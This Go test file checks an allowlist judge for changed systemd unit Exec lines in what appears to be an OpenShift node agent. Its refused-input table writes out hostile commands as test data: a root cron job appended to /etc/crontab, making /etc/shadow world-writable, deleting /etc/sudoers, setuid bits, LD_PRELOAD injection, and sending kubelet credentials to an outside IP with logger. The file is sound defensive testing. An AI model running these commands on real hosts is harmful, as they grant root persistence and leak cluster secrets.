package allowlist_test

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/openshift/refresh-agent/allowlist"
)

// judgeChanged judges the lines as changed lines of myapp.service whose current definition runs
// node (an Exec line; "" for a unit the payload adds) and to which the node policy grants granted.
func judgeChanged(t *testing.T, node string, granted []string, lines ...string) error {
	t.Helper()
	p := unitOfLines(t, true, lines...)
	if node != "" {
		cur, err := allowlist.SplitExec(node)
		require.NoError(t, err)
		p.Programs = allowlist.OwnPrograms(cur)
	}
	p.Programs = append(p.Programs, granted...)
	return allowlist.JudgeUnit(p)
}

// Issue 27 class 3: in a changed line every command the judge finds, at every depth, runs a program
// the judge models, one the unit already runs, or one the node policy grants it; six adversary
// rounds of programs the lists missed are refused without a list naming them, and so is any
// program or wrapper no list names. The same shapes run the unit's own or granted programs.
func TestChangedLinesRunOnlyModeledOwnOrGrantedPrograms(t *testing.T) {
	refused := []struct{ line, names string }{
		// The six rounds' programs.
		{`ExecStart=/usr/bin/setarch x86_64 /usr/sbin/reboot`, "setarch"},
		{`ExecStart=/usr/bin/setarch x86_64 /usr/bin/foo`, "setarch"},
		{`ExecStart=/usr/bin/choom -n 0 -- reboot`, "choom"},
		{`ExecStart=/usr/bin/choom -n 0 -- /usr/bin/foo`, "choom"},
		{`ExecStart=/usr/bin/ssh-agent bash /etc/myapp/app.conf`, "ssh-agent"},
		{`ExecStart=/usr/bin/xargs -a /etc/myapp/app.conf env`, "xargs"},
		{`ExecStart=/usr/bin/m4 /etc/myapp/app.conf`, "m4"},
		{`ExecStart=/usr/bin/m4 /usr/share/myapp/x.m4`, "m4"},
		{`ExecStart=/usr/bin/sqlite3 -init /etc/myapp/app.conf :memory:`, "sqlite3"},
		{`ExecStart=/usr/bin/sqlite3 /var/lib/myapp/db .tables`, "sqlite3"},
		{`ExecStart=/usr/bin/bpftrace /etc/myapp/app.conf`, "bpftrace"},
		{`ExecStart=/usr/bin/stap /etc/myapp/app.conf`, "stap"},
		{`ExecStart=@/usr/bin/kmod insmod /etc/myapp/app.conf`, "insmod"},
		{`ExecStart=@/usr/bin/kmod lsmod`, "lsmod"},
		{`ExecStart=/usr/bin/logger -u /run/systemd/notify x`, "notif"},
		{`ExecStart=/usr/bin/dbus-daemon --config-file=/etc/myapp/app.conf`, "dbus-daemon"},
		{`ExecStart=/usr/bin/dbus-daemon --config-file=/usr/share/dbus-1/session.conf`, "dbus-daemon"},
		// No list names these.
		{`ExecStart=/usr/bin/myunknownwrapper /usr/bin/anything`, "myunknownwrapper"},
		{`ExecStart=/usr/bin/foo --v=4`, "/usr/bin/foo"},
		{`ExecStart=foo --v=4`, "runs foo"},
		{`ExecStart=/usr/bin/bash -c 'unknownprog x'`, "unknownprog"},
		{`ExecStart=/bin/sh -c 'echo ok; x=$(foo); echo $x'`, "runs foo"},
		{`ExecStart=/bin/sh -c 'cat /etc/myapp/app.conf | foo'`, "runs foo"},
		{`ExecStart=/bin/sh -c 'exec foo'`, "runs foo"},
		{`ExecStart=/bin/sh -c 'if true; then command /usr/bin/foo; fi'`, "/usr/bin/foo"},
		{`ExecStart=/usr/bin/true ; /usr/bin/foo`, "/usr/bin/foo"},
		{`ExecStart=/usr/bin/find / -exec /usr/bin/foo {} +`, "/usr/bin/foo"},
		{`ExecStart=/usr/bin/xargs -0 /usr/bin/foo`, "/usr/bin/foo"},
		// xargs's command gets its input's words, which no argument rule reads: only readers.
		{`ExecStart=/usr/bin/xargs -a /etc/myapp/list /usr/bin/myapp`, "/usr/bin/myapp"},
		{`ExecStart=/usr/bin/xargs -a /etc/myapp/list cp`, "xargs hands the words of its input to cp"},
		{`ExecStart=/bin/sh -c 'cat /etc/myapp/list | xargs -I{} /usr/bin/myapp --file {}'`, "/usr/bin/myapp"},
		// A script is a program: only the unit's own or a granted one (an OS script may run its
		// arguments as a command).
		{`ExecStart=/bin/sh /usr/bin/command /tmp/x`, "the script /usr/bin/command"},
		{`ExecStart=/usr/bin/python3 /usr/lib64/python3.9/pdb.py /etc/myapp/app.conf`, "the script /usr/lib64/python3.9/pdb.py"},
		{`ExecStart=/usr/bin/bash --rcfile /usr/share/myapp/rc -c true`, "the script /usr/share/myapp/rc"},
		// Options that run a program name one a changed line may run; no daemon runs its
		// configuration's commands; find writes only where a writer may.
		{`ExecStart=/usr/bin/install -s --strip-program=/usr/bin/foo /usr/share/myapp/x /var/lib/myapp/x`, "option strip-program: runs /usr/bin/foo"},
		{`ExecStart=/usr/bin/rsync --daemon --no-detach`, "rsync's daemon"},
		{`ExecStart=/usr/bin/find /var/lib/myapp -fprint /usr/local/bin/x`, "/usr/local/bin/x"},
		// Scheduling the unit's own settings may not have.
		{`ExecStart=/usr/bin/nice -n -5 /usr/bin/myapp`, "nice -n -5"},
		{`ExecStart=/usr/bin/nice --5 /usr/bin/myapp`, "nice -n -5"},
		{`ExecStart=/usr/bin/ionice -c 1 /usr/bin/myapp`, "real-time I/O class"},
		{`ExecStart=/usr/bin/chrt 99 /usr/bin/myapp`, "real-time policy"},
		{`ExecStart=/usr/bin/chrt -f 99 /usr/bin/myapp`, "chrt -f"},
		// Archives whose names escape their directory; the archive a writer creates is written.
		{`ExecStart=/usr/bin/tar -xPf /etc/myapp/a.tar -C /var/lib/myapp`, "tar -P"},
		{`ExecStart=/usr/bin/tar --absolute-names -xf /etc/myapp/a.tar -C /var/lib/myapp`, "tar -P"},
		{`ExecStart=/usr/bin/tar xPf /etc/myapp/a.tar -C /var/lib/myapp`, "tar -P"},
		{`ExecStart=/usr/bin/tar -cf /usr/local/bin/x /var/lib/myapp`, "/usr/local/bin/x"},
		{`ExecStart=/usr/bin/tar -cf /etc/cron.d/x /var/lib/myapp`, "/etc/cron.d/x"},
		{`ExecStart=/usr/bin/cpio -i -D /var/lib/myapp`, "cpio writes the archive's names"},
		{`ExecStart=/usr/bin/unzip -: /etc/myapp/a.zip -d /var/lib/myapp`, "unzip -:"},
		// What sed -i, chmod, chown, rm and find change is written.
		{`ExecStart=/usr/bin/sed -i '$a * * * * * root /tmp/x' /etc/crontab`, "writes /etc/crontab"},
		{`ExecStart=/usr/bin/sed -i 's/a/b/' /etc/cron*`, "into /etc, above"},
		{`ExecStart=/usr/bin/chmod 666 /etc/shadow`, "writes /etc/shadow"},
		{`ExecStart=/usr/bin/chown core /etc/sudoers`, "writes /etc/sudoers"},
		{`ExecStart=/usr/bin/rm -f /etc/sudoers`, "writes /etc/sudoers"},
		{`ExecStart=/usr/bin/xargs -a /etc/myapp/list rm -rf`, "xargs hands the words of its input to rm"},
		{`ExecStart=/usr/bin/find /etc -name sudoers -delete`, "find changes what it finds below /etc"},
		// (round 7b: a changed line's systemd-run takes no --working-directory at all, execlocal.go)
		{`ExecStart=/usr/bin/systemd-run --scope --working-directory=/etc/cron.d /usr/bin/cp /etc/myapp/app.conf x`, "--working-directory=/etc/cron.d"},
		// Set-ID modes, the clock and the name.
		{`ExecStart=/usr/bin/chmod u+s /var/lib/myapp/x`, "set-user-ID"},
		{`ExecStart=/usr/bin/chmod 4755 /var/lib/myapp/x`, "set-user-ID"},
		{`ExecStart=/usr/bin/install -m 2755 /usr/share/myapp/x /var/lib/myapp/x`, "set-user-ID"},
		{`ExecStart=/usr/bin/date -s 2000-01-01`, "clock or name"},
		{`ExecStart=/usr/bin/date 010100002000`, "clock or name"},
		{`ExecStart=/usr/bin/hostname evil`, "clock or name"},
		{`ExecStart=/usr/bin/chcon -t bin_t /var/lib/myapp/x`, "runs /usr/bin/chcon"},
		// Daemons that serve the node or run its files; secrets to another host; code in variables.
		{`ExecStart=/usr/bin/python3 -m http.server --cgi`, "http.server"},
		{`ExecStart=/usr/bin/logger -n 192.0.2.1 -f /var/lib/kubelet/config.json`, "logger -n"},
		{`ExecStart=/usr/bin/systemd-run --scope --setenv=LD_PRELOAD=/etc/myapp/x.so /usr/bin/true`, "LD_PRELOAD"},
		// The shell's search path and text that becomes code.
		{`ExecStart=/bin/sh -c 'for PATH in /tmp; do cat; done'`, "sets PATH"},
		{`ExecStart=/bin/bash -c 'read PATH < /etc/myapp/app.conf; cat'`, "sets PATH"},
		{`ExecStart=/bin/bash -c 'printf -v PATH /tmp; cat'`, "sets PATH"},
		{`ExecStart=/bin/bash -c 'unset PATH; cat'`, "sets PATH"},
		{`ExecStart=/bin/bash -c 'x="$(/usr/bin/foo)"; echo ${x@P}'`, "/usr/bin/foo"},
		{`ExecStart=/bin/bash -c "x='\$(/usr/bin/foo)'; echo \${x@P}"`, "/usr/bin/foo"},
		{`ExecStart=/bin/bash -c "x='a[\$(/usr/bin/foo)]'; echo \$((x))"`, "/usr/bin/foo"},
		{`ExecStart=/bin/bash -c 'x=1; echo ${x@P}'`, "prompt expansion"},
		// Shells whose syntax is not POSIX sh's.
		{`ExecStart=/usr/bin/zsh -c 'x="\$(/usr/bin/foo)"; echo ${(e)x}'`, "zsh"},
		{`ExecStart=/usr/bin/fish -c 'echo ok'`, "runs /usr/bin/fish"},
		// Names are the model's exactly.
		{`ExecStart=/usr/local/bin/ENV /usr/bin/myapp`, "runs /usr/local/bin/ENV"},
		{`ExecStart=/usr/bin/systemd-run --scope /usr/bin/foo`, "/usr/bin/foo"},
		{`ExecStart=@/usr/bin/myapp foo --v=4`, "runs foo"},
		// Every modeled wrapper's command, wherever its grammar puts it.
		{`ExecStart=/usr/bin/env /usr/bin/foo`, "/usr/bin/foo"},
		{`ExecStart=/usr/bin/env -i -u HOME -C /var/lib/myapp FOO=1 foo`, "runs foo"},
		{`ExecStart=/usr/bin/env - foo`, "runs foo"},
		{`ExecStart=/usr/bin/env -- foo`, "runs foo"},
		{`ExecStart=/usr/bin/env -uHOME foo`, "runs foo"},
		{`ExecStart=/usr/bin/nice -n 5 /usr/bin/foo`, "/usr/bin/foo"},
		{`ExecStart=/usr/bin/nice -n5 foo`, "runs foo"},
		{`ExecStart=/usr/bin/nice -5 foo`, "runs foo"},
		{`ExecStart=/usr/bin/nice --adjustment=5 foo`, "runs foo"},
		{`ExecStart=/usr/bin/ionice -c 3 foo`, "runs foo"},
		{`ExecStart=/usr/bin/ionice -c2 -n7 -t foo`, "runs foo"},
		{`ExecStart=/usr/bin/timeout 5 foo`, "runs foo"},
		{`ExecStart=/usr/bin/timeout -s KILL -k 5 --preserve-status 30 foo`, "runs foo"},
		{`ExecStart=/usr/bin/timeout --signal=TERM 30 foo`, "runs foo"},
		{`ExecStart=/usr/bin/nohup foo`, "runs foo"},
		{`ExecStart=/usr/bin/setsid -f -w foo`, "runs foo"},
		{`ExecStart=/usr/bin/stdbuf -oL -e0 foo`, "runs foo"},
		{`ExecStart=/usr/bin/chrt -o 0 foo`, "runs foo"},
		{`ExecStart=/usr/bin/taskset -c 0-3 foo`, "runs foo"},
		{`ExecStart=/usr/local/bin/kubenswrapper /usr/bin/foo`, "/usr/bin/foo"},
		{`ExecStart=/usr/bin/timeout 5 /usr/bin/env FOO=1 /usr/bin/nice foo`, "runs foo"},
		// A modeled wrapper's options outside its grammar: the word they take might be the command.
		{`ExecStart=/usr/bin/env -S '/usr/bin/myapp --v=4'`, "env -S"},
		{`ExecStart=/usr/bin/env --split-string=/usr/bin/myapp`, "--split-string"},
		{`ExecStart=/usr/bin/env --block-signal /usr/bin/myapp`, "env --block-signal"},
		// --adj is --adjustment (getopt_long's abbreviations, execopts.go): judged as it, -5 refused.
		{`ExecStart=/usr/bin/nice --adj=-5 /usr/bin/myapp`, "nice --adjustment -5"},
		{`ExecStart=/usr/bin/ionice -p 1`, "ionice -p"},
		{`ExecStart=/usr/bin/chrt -p 1`, "chrt -p"},
		{`ExecStart=/usr/bin/taskset -p 1`, "taskset -p"},
		{`ExecStart=/usr/bin/timeout -x 5 /usr/bin/myapp`, "timeout -x"},
		{`ExecStart=/bin/sh -c 'command -p /usr/bin/myapp'`, "command with options"},
		// Wrappers the judge does not model, around the unit's own program.
		{`ExecStart=/usr/bin/strace -f /usr/bin/myapp`, "strace"},
		{`ExecStart=/usr/bin/perf record /usr/bin/myapp`, "perf"},
		{`ExecStart=/usr/bin/flock /run/lock/myapp.lock /usr/bin/myapp`, "flock"},
		{`ExecStart=/usr/sbin/runuser -u nobody -- /usr/bin/myapp`, "runuser"},
		{`ExecStart=/usr/bin/unshare -m /usr/bin/myapp`, "unshare"},
		{`ExecStart=/usr/bin/nsenter -t 1 -m /usr/bin/myapp`, "nsenter"},
		{`ExecStart=/usr/bin/setpriv --reuid=0 /usr/bin/myapp`, "setpriv"},
		{`ExecStart=/usr/bin/parallel /usr/bin/myapp ::: a`, "parallel"},
		{`ExecStart=/usr/bin/su -c /usr/bin/myapp root`, "su"},
		{`ExecStart=/usr/bin/env /usr/bin/strace /usr/bin/myapp`, "strace"},
	}
	own := `/usr/bin/myapp --v=2`
	for _, c := range refused {
		lines := []string{c.line}
		for _, node := range []string{"", own} {
			err := judgeChanged(t, node, nil, lines...)
			if assert.Error(t, err, "%v (node runs %q)", lines, node) {
				assert.Contains(t, err.Error(), c.names, "%v", lines)
				assert.Regexp(t, `^(ExecStart|Environment)=`, err.Error(), "names the key")
			}
		}
	}
	// The unit's own program, fed its input's words by xargs, is refused too.
	for _, l := range []string{`ExecStart=/usr/bin/xargs -a /etc/myapp/list /usr/bin/myapp`, `ExecStart=/bin/sh -c 'cat /etc/myapp/list | xargs -I{} /usr/bin/myapp --file {}'`} {
		err := judgeChanged(t, own, nil, l)
		if assert.Error(t, err, l) {
			assert.Contains(t, err.Error(), "xargs hands the words of its input to /usr/bin/myapp", l)
		}
	}
	// The refusal says what a changed line may run.
	err := judgeChanged(t, own, nil, `ExecStart=/usr/bin/nice -n 5 /usr/bin/foo`)
	require.Error(t, err)
	assert.Contains(t, err.Error(), "ExecStart=/usr/bin/nice -n 5 /usr/bin/foo: ")
	assert.Contains(t, err.Error(), "runs /usr/bin/foo: a changed line may run only the programs the judge models")
	assert.Contains(t, err.Error(), "or the unit's own programs")

	// The unit's own program with new flags, through every modeled wrapper and depth; and the
	// same with the program granted instead.
	shapes := []string{
		`ExecStart=/usr/bin/myapp --v=4`,
		`ExecStart=myapp --v=4`,
		`ExecStart=/usr/bin/env FOO=1 /usr/bin/myapp --v=4`,
		`ExecStart=/usr/bin/env -i -u HOME -C /var/lib/myapp /usr/bin/myapp`,
		`ExecStart=/usr/bin/nice -n 5 /usr/bin/myapp --v=4`,
		`ExecStart=/usr/bin/ionice -c 3 /usr/bin/myapp`,
		`ExecStart=/usr/bin/timeout -s TERM -k 5 30 /usr/bin/myapp`,
		`ExecStart=/usr/bin/nohup /usr/bin/myapp`,
		`ExecStart=/usr/bin/setsid -f /usr/bin/myapp`,
		`ExecStart=/usr/bin/stdbuf -oL /usr/bin/myapp`,
		`ExecStart=/usr/bin/chrt -o 0 /usr/bin/myapp`,
		`ExecStart=/usr/bin/taskset -c 0 /usr/bin/myapp`,
		`ExecStart=/usr/local/bin/kubenswrapper /usr/bin/myapp --v=4`,
		`ExecStart=/bin/bash -c 'exec /usr/bin/myapp --v=4'`,
		`ExecStart=/bin/sh -c 'for i in 1 2; do myapp --v=$i || sleep 1; done'`,
		`ExecStart=/usr/bin/find /var/lib/myapp -name '*.x' -exec /usr/bin/myapp {} +`,
		`ExecStart=/usr/bin/xargs -a /etc/myapp/list /usr/bin/echo`, // (not cat: its input may name a secret, round 12)
		`ExecStart=/usr/bin/true ; /usr/bin/myapp --v=4`,
		`ExecStart=/usr/bin/systemd-run --scope /usr/bin/myapp`,
		`ExecStart=/usr/bin/echo ok`,
		`ExecStartPre=/usr/bin/mkdir -p /var/lib/myapp`,
		`ExecStartPre=/usr/bin/mkdir -m 0750 -p /var/lib/myapp`,
		`ExecStartPre=/usr/bin/chmod 0640 /var/lib/myapp/x`,
		`ExecStartPre=/usr/bin/sed -i 's/a/b/' /var/lib/myapp/x.conf /etc/myapp/*.conf`,
		`ExecStartPre=/usr/bin/rm -f /run/myapp/x.pid /var/lib/myapp/*.tmp`,
		`ExecStartPre=/usr/bin/find /var/lib/myapp -name '*.tmp' -delete`,
		`ExecStartPre=/usr/bin/chown -R myapp:myapp /var/lib/myapp`,
		`ExecStartPre=/usr/bin/chmod -R u+rwX,go-w /var/lib/myapp`,
		`ExecStartPre=/usr/bin/tar -czf /var/lib/myapp/backup.tgz /etc/myapp`,
		`ExecStartPre=/usr/bin/tar -xzf /usr/share/myapp/a.tgz --no-same-permissions -C /var/lib/myapp`,
		`ExecStartPre=/usr/bin/date +%s`,
		`ExecStartPre=/usr/bin/hostname -f`,
		`ExecStartPre=/usr/bin/logger -t myapp starting`,
		`ExecStart=/bin/bash -c 'for f in /etc/myapp/*.conf; do read -r line < "$f"; echo "$line"; done'`,
		`ExecStart=/bin/sh -c 'echo "$(date)"; x=$((1+2)); echo ${x:-0}'`,
	}
	for _, l := range shapes {
		assert.NoError(t, judgeChanged(t, own, nil, l), "own: %s", l)
		assert.NoError(t, judgeChanged(t, "", []string{"/usr/bin/myapp"}, l), "granted: %s", l)
	}
	// The node already runs these programs (their own current lines): new arguments are judged by
	// the argument rules only.
	for node, line := range map[string]string{
		`/usr/bin/setarch x86_64 /usr/bin/myapp --v=2`:             `ExecStart=/usr/bin/setarch x86_64 /usr/bin/myapp --v=4`,
		`/usr/bin/m4 /usr/share/myapp/a.m4`:                        `ExecStart=/usr/bin/m4 /usr/share/myapp/x.m4`,
		`/usr/bin/sqlite3 /var/lib/myapp/db .schema`:               `ExecStart=/usr/bin/sqlite3 /var/lib/myapp/db .tables`,
		`/usr/bin/dbus-daemon --session`:                           `ExecStart=/usr/bin/dbus-daemon --config-file=/usr/share/dbus-1/session.conf`,
		`/usr/bin/flock /run/lock/myapp.lock /usr/bin/myapp --v=2`: `ExecStart=/usr/bin/flock -n /run/lock/myapp.lock /usr/bin/myapp --v=4`,
		`/bin/sh -c 'exec /usr/sbin/myhelper --x'`:                 `ExecStart=/usr/sbin/myhelper --y`,
		`/bin/bash /usr/local/sbin/calc.sh true 1Gi`:               `ExecStart=/bin/bash -x /usr/local/sbin/calc.sh false 2Gi`,
		`/usr/bin/python3 -u /usr/lib/myapp/main.py`:               `ExecStart=/usr/bin/python3 -uB -W ignore /usr/lib/myapp/main.py --port 8080`,
		`/usr/bin/perl /usr/share/myapp/x.pl`:                      `ExecStart=/usr/bin/perl -wT -l0 /usr/share/myapp/x.pl --v`,
		`@/usr/bin/kmod lsmod`:                                     `ExecStart=@/usr/bin/kmod lsmod`,
	} {
		assert.NoError(t, judgeChanged(t, node, nil, line), "%s, node runs %s", line, node)
	}
	// Own programs keep every argument rule: a code file the payload may write, a class name in
	// command position, a socket, a wrapper's new program.
	for node, line := range map[string]string{
		`/usr/bin/m4 /usr/share/myapp/a.m4`:                        `ExecStart=/usr/bin/m4 /etc/myapp/app.conf`,
		`/usr/bin/sqlite3 /var/lib/myapp/db .schema`:               `ExecStart=/usr/bin/sqlite3 -init /etc/myapp/app.conf :memory:`,
		`/usr/bin/setarch x86_64 /usr/bin/myapp`:                   `ExecStart=/usr/bin/setarch x86_64 /usr/sbin/reboot`,
		`/usr/bin/myapp --v=2`:                                     `ExecStart=/usr/bin/myapp --exec=/usr/sbin/reboot`,
		`/usr/bin/flock /run/lock/myapp.lock /usr/bin/myapp --v=2`: `ExecStart=/usr/bin/flock /run/lock/myapp.lock /usr/bin/foo`,
		`/usr/bin/nc -z 127.0.0.1 80`:                              `ExecStart=/usr/bin/nc -U /run/systemd/notify`,
	} {
		assert.Error(t, judgeChanged(t, node, nil, line), "%s, node runs %s", line, node)
	}
	// An interpreter's options that may load code from elsewhere or write, even with the unit's
	// own script.
	for node, line := range map[string]string{
		`/usr/bin/node /usr/lib/myapp/main.js`:    `ExecStart=/usr/bin/node --require /etc/myapp/x.js /usr/lib/myapp/main.js`,
		`/usr/bin/perl /usr/share/myapp/x.pl`:     `ExecStart=/usr/bin/perl -I /var/lib/myapp /usr/share/myapp/x.pl`,
		`/usr/bin/perl /usr/share/myapp/y.pl`:     `ExecStart=/usr/bin/perl -MEvil /usr/share/myapp/y.pl`,
		`/usr/bin/perl /usr/share/myapp/z.pl`:     `ExecStart=/usr/bin/perl -i /usr/share/myapp/z.pl /etc/x`,
		`/usr/bin/ruby /usr/share/myapp/x.rb`:     `ExecStart=/usr/bin/ruby -r /etc/myapp/x.rb /usr/share/myapp/x.rb`,
		`/usr/bin/php /usr/share/myapp/x.php`:     `ExecStart=/usr/bin/php -d auto_prepend_file=/etc/myapp/x.php /usr/share/myapp/x.php`,
		`/usr/bin/python3 /usr/lib/myapp/main.py`: `ExecStart=/usr/bin/python3 -X pycache_prefix=/var/lib/myapp /usr/lib/myapp/main.py`,
	} {
		err := judgeChanged(t, node, nil, line)
		if assert.Error(t, err, line) && !strings.Contains(line, "-MEvil") && !strings.Contains(line, "php -d") {
			// (perl -M and php -d are refused before, as inline code and as a script named by -d)
			assert.Contains(t, err.Error(), "an option the judge does not model", line)
		}
	}
	// Unchanged lines (the node's own) are judged as before: an unmodeled program runs.
	assert.NoError(t, strictUnit(t, false, `ExecStart=/usr/bin/foo --v=4`))
	assert.NoError(t, strictUnit(t, false, `ExecStart=/usr/bin/flock /run/lock/x /usr/bin/foo`))
}

// OwnPrograms reads the programs of the node's current lines: each command's program, through the
// modeled wrappers, shells' -c scripts and '@', by path as RHCOS reaches it or by name.
func TestOwnProgramsOfTheNodesLines(t *testing.T) {
	split := func(lines ...string) [][]string {
		var out [][]string
		for _, l := range lines {
			a, err := allowlist.SplitExec(l)
			require.NoError(t, err)
			out = append(out, a...)
		}
		return out
	}
	got := allowlist.OwnPrograms(split(`/usr/local/bin/kubenswrapper /usr/bin/kubelet --v=2`,
		`/usr/bin/timeout -s TERM 30 /usr/bin/env FOO=1 /bin/nice -n 5 myhelper x`,
		`/bin/sh -c 'A=1 exec /var/usrlocal/bin/x.sh; cat /etc/x | tr a b'`, `@/usr/bin/kmod lsmod`,
		`/usr/bin/env $CMD`, `/usr/bin/env -S 'x y'`))
	assert.ElementsMatch(t, []string{"/usr/local/bin/kubenswrapper", "/usr/bin/kubelet", "/usr/bin/timeout", "/usr/bin/env",
		"/usr/bin/nice", "myhelper", "/usr/bin/sh", "/usr/local/bin/x.sh", "cat", "tr", "/usr/bin/kmod", "lsmod"}, got)
	// A wrapper the judge does not model: the node's programs among its words.
	assert.ElementsMatch(t, []string{"/usr/bin/flock", "/usr/bin/myapp"}, allowlist.OwnPrograms(split(`/usr/bin/flock /run/l /usr/bin/myapp`)))
	assert.Empty(t, allowlist.OwnPrograms(nil))
}

// unitPrograms is the node policy's own grant (never inside the MCO's NodeDisruptionPolicy, never
// from the ConfigMap): absolute clean paths of the node's programs, for units a unit rule names;
// anything else is an error naming the field.
func TestUnitProgramsPolicyField(t *testing.T) {
	const rule = "nodeDisruptionPolicy:\n  units:\n  - name: myapp.service\n    actions: [{type: Restart, restart: {serviceName: myapp.service}}]\n"
	p, err := allowlist.ParsePolicy([]byte(rule + "unitPrograms:\n  myapp.service: [/usr/bin/myapp, /usr/local/bin/myhelper, /var/usrlocal/sbin/x]\n"))
	require.NoError(t, err)
	assert.Equal(t, map[string][]string{"myapp.service": {"/usr/bin/myapp", "/usr/local/bin/myhelper", "/var/usrlocal/sbin/x"}}, p.UnitPrograms)
	p, err = allowlist.ParsePolicy([]byte(rule))
	require.NoError(t, err)
	assert.Empty(t, p.UnitPrograms, "none unless the node grants them")
	assert.Empty(t, allowlist.Default().UnitPrograms)

	for in, want := range map[string]string{
		"unitPrograms: {other.service: [/usr/bin/x]}":                    "unitPrograms[other.service]: no unit rule names other.service",
		"unitPrograms: {myapp.service: [usr/bin/x]}":                     "unitPrograms[myapp.service][0]: usr/bin/x is not an absolute clean path",
		"unitPrograms: {myapp.service: [/usr/bin/myapp, /usr/bin/../x]}": "unitPrograms[myapp.service][1]: /usr/bin/../x is not an absolute clean path",
		"unitPrograms: {myapp.service: [/usr/bin/]}":                     "unitPrograms[myapp.service][0]: /usr/bin/ is not an absolute clean path",
		"unitPrograms: {myapp.service: [/etc/myapp/x]}":                  "unitPrograms[myapp.service][0]: /etc/myapp/x is not one of the node's programs",
		"unitPrograms: {myapp.service: [/var/tmp/x]}":                    "/var/tmp/x is not one of the node's programs",
		"unitPrograms: {myapp.service: [/usr/local/share/x]}":            "/usr/local/share/x is not one of the node's programs",
		"unitPrograms: {myapp.service: [/usr/bin/*]}":                    "/usr/bin/* is not one of the node's programs",
		"unitPrograms: {myapp.service: [\"/usr/bin/a\\tb\"]}":            "unitPrograms[myapp.service][0]: path",
		"unitPrograms: {myapp.service: /usr/bin/x}":                      "unitPrograms",
		"unitPrograms: [/usr/bin/x]":                                     "unitPrograms",
		"unitPrograms: {myapp.service: [/usr/bin/x]}\nunitPrograms: {}":  "unitPrograms",
	} {
		_, err := allowlist.ParsePolicy([]byte(rule + in + "\n"))
		if assert.Error(t, err, in) {
			assert.Contains(t, err.Error(), want, in)
		}
	}
	// Not a field of the MCO's objects, nor of a no-reboot-paths entry.
	_, err = allowlist.ParsePolicy([]byte("nodeDisruptionPolicy:\n  unitPrograms: {myapp.service: [/usr/bin/x]}\n  units:\n  - name: myapp.service\n    actions: [{type: Restart, restart: {serviceName: myapp.service}}]\n"))
	assert.Error(t, err)
	_, err = allowlist.ParseRules([]byte(`[{"path": "/etc/myapp/a.conf", "action": "None", "unitPrograms": {"myapp.service": ["/usr/bin/x"]}}]`))
	assert.Error(t, err)
}
